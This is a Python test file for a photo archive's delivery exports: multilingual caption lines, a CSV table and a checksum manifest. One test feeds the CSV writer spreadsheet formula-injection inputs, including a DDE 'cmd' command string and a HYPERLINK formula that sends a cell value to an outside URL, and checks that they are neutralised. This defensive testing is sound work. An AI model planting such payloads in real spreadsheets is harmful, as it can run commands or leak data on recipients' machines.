"""What a set becomes in lists: caption lines, a table that no program takes for formulas, and a
manifest that the receiver can check."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from photoarchive.delivery.captions import as_lines
from photoarchive.delivery.manifest import FORM, Delivered, as_json
from photoarchive.delivery.spreadsheet import as_csv
from photoarchive.delivery.wording import in_language
from photoarchive.domain.photo import Photo, PhotoId, Role
from photoarchive.domain.recipe import Recipe
from photoarchive.domain.wording import Occasion, worded_line


def photo(id: int = 7, name: str = "DSC_0042.jpg", **fields: object) -> Photo:
    return Photo(
        id=PhotoId(id),
        name=name,
        digest="0" * 64,
        size_bytes=1,
        format="JPEG",
        path=f"originals/{name}",
        role=Role.MANAGED,
        added="2026-11-07T08:00:00Z",
        fields=fields,
    )


SALUTE = photo(
    caption={"x-default": "A salute from our troops", "en": "A salute from our troops",
             "ar": "تحية من جنودنا", "es": "Un saludo de\nnuestras tropas"},
    source="Official Lebanese Website",
    keywords=("army", "flag"),
    rating=3,
    gps=(34.26, -36.42),
    date_created="2017-08-26T10:14:05",
)  # fmt: skip


# --- caption lines ------------------------------------------------------------------------------


def lines(*photos: Photo, line: str = Recipe().line, language: str = "", languages=()):
    pattern = Recipe(line=line).line_pattern()
    return as_lines(photos, pattern, Occasion(language, languages)).decode("utf-8")


def test_the_default_line_is_that_of_the_contract():
    assert lines(SALUTE) == "Pictured: A salute from our troops Source: Official Lebanese Website\n"


def test_each_photograph_has_one_line_whatever_its_caption_holds():
    odd = photo(caption={"x-default": "two\nlines\r\nthree\u2028four\x0bfive\x85six\tseven"})
    text = lines(SALUTE, odd, photo(), language="es")
    assert text.splitlines() == [
        "Pictured: Un saludo de nuestras tropas Source: Official Lebanese Website",
        "Pictured: two lines three four five six seven Source:",
        "Pictured: Source:",
    ]
    assert text.endswith("\n")


def test_a_line_is_in_the_language_asked_for_else_the_default_text():
    assert lines(SALUTE, line="{caption}", language="ar") == "تحية من جنودنا\n"
    assert lines(SALUTE, line="{caption}", language="fr") == "A salute from our troops\n"
    assert lines(SALUTE, line="{caption@es}") == "Un saludo de nuestras tropas\n"
    assert lines(SALUTE, line="x[ {caption@fr}]y") == "xy\n", "no other language stands in for it"


def test_a_text_without_a_default_is_taken_from_the_archives_languages():
    spoken = photo(caption={"ar": "تحية", "es": "Un saludo"})
    assert lines(spoken, line="{caption}", languages=("es", "ar")) == "Un saludo\n"
    assert lines(spoken, line="{caption}", languages=("ar",)) == "تحية\n"
    assert lines(spoken, line="{caption}") == "تحية\n"


def test_lists_numbers_and_dates_are_words_in_a_line():
    line = "{seq:03} {id:5} {name} {date} {keywords} {rating} {gps}"
    assert lines(SALUTE, line=line) == (
        "001 00007 DSC_0042 2017-08-26 army; flag 3 34.26, -36.42\n"
    )
    bare = photo(name="scan")
    assert lines(bare, line="{name} {date}|") == "scan |\n"


def test_numbers_count_through_the_set():
    assert lines(SALUTE, photo(), photo(), line="{seq}") == "1\n2\n3\n"


def test_no_photographs_no_lines():
    assert lines() == ""


def test_a_content_is_told_in_a_language():
    texts = {"x-default": "A", "ar": "ا"}
    assert in_language(texts, "ar") == "ا"
    assert in_language(texts, "es") == "A"
    assert in_language(texts, "es", fallback=False) == ""
    assert in_language(("a", "b"), "es") == "a; b"
    assert in_language(7, "") == "7"
    pattern = Recipe(names="{name}-{seq:02}").name_pattern()
    assert worded_line(pattern, SALUTE, Occasion(number=3)) == "DSC_0042-03"


# --- the table ----------------------------------------------------------------------------------


def table(*rows: tuple[str, Photo]) -> list[dict[str, str]]:
    data = as_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs it to read Arabic"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_field_and_language_in_use_has_a_column():
    (row,) = table(("a.jpg", SALUTE))
    assert list(row) == [
        "file", "id", "name", "caption", "caption@ar", "caption@en", "caption@es", "keywords",
        "source", "gps", "date_created", "rating",
    ]  # fmt: skip
    assert (row["file"], row["id"], row["name"]) == ("a.jpg", "7", "DSC_0042.jpg")
    assert row["caption@ar"] == "تحية من جنودنا"
    assert row["caption@es"] == "Un saludo de\nnuestras tropas"
    assert (row["keywords"], row["rating"], row["gps"]) == ("army; flag", "3", "34.26; -36.42")


def test_what_one_photograph_lacks_is_an_empty_cell():
    rows = table(("a.jpg", SALUTE), ("b.jpg", photo(headline="Flags", caption={"ar": "ا"})))
    assert rows[1]["source"] == rows[1]["caption"] == ""
    assert rows[0]["headline"] == ""
    assert rows[1]["caption@ar"] == "ا"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "   \u00a0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\u200f=1+1",
        "\u202e=1+1",
        "\ufeff=cmd|' /C calc'!A1",
        "\u2066\u00a0\u200b=1",
        "−1",
        "\0=1",
        '=HYPERLINK("http://example.org?"&A1)',
    ],
)
def test_no_cell_is_a_formula_to_any_program(text):
    (row,) = table((text, photo(name=text, headline=text, caption={"ar": text}, scene=(text, "x"))))
    for cell in (row["file"], row["name"], row["headline"], row["caption@ar"], row["scene"]):
        assert cell.startswith("'")
        assert cell.lstrip("'").replace("; x", "") == text


@pytest.mark.parametrize(
    "text", ["A salute", "'quoted'", "a=b", "1-2", "«=1»", "تحية =1", "(+1)", "#1", ""]
)
def test_a_cell_that_is_no_formula_stays_as_it_is(text):
    assert table(("a.jpg", photo(headline=text, caption={"ar": text})))[0]["headline"] == text


def test_numbers_stay_numbers_and_places_too():
    (row,) = table(("a.jpg", photo(rating=-1, gps=(-33.9, 18.4), max_width=6000)))
    assert (row["rating"], row["gps"], row["max_width"]) == ("-1", "-33.9; 18.4", "6000")


@settings(deadline=None, derandomize=True, max_examples=100)
@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_any_text_comes_back_from_the_table(text):
    (row,) = table(("a.jpg", photo(headline=text)))
    assert row["headline"] in (text, f"'{text}")


def test_a_table_of_nothing_has_a_heading():
    assert as_csv([]).decode("utf-8-sig") == "file,id,name\r\n"


# --- the manifest -------------------------------------------------------------------------------


def test_the_manifest_says_what_was_delivered_and_how_to_check_it():
    digest = hashlib.sha256(b"x").hexdigest()
    one = Delivered("تحية.jpg", digest, 1, 7, "DSC_0042.jpg", "0" * 64, "embedded")
    data = as_json("2026-11-07T08:00:00Z", [one], [("captions.txt", digest)])
    assert "تحية.jpg".encode() in data
    document = json.loads(data)
    assert document == {
        "form": FORM,
        "created": "2026-11-07T08:00:00Z",
        "photographs": [
            {
                "file": "تحية.jpg",
                "sha256": digest,
                "size_bytes": 1,
                "id": 7,
                "original_name": "DSC_0042.jpg",
                "original_sha256": "0" * 64,
                "metadata": "embedded",
            }
        ],
        "files": [{"file": "captions.txt", "sha256": digest}],
    }
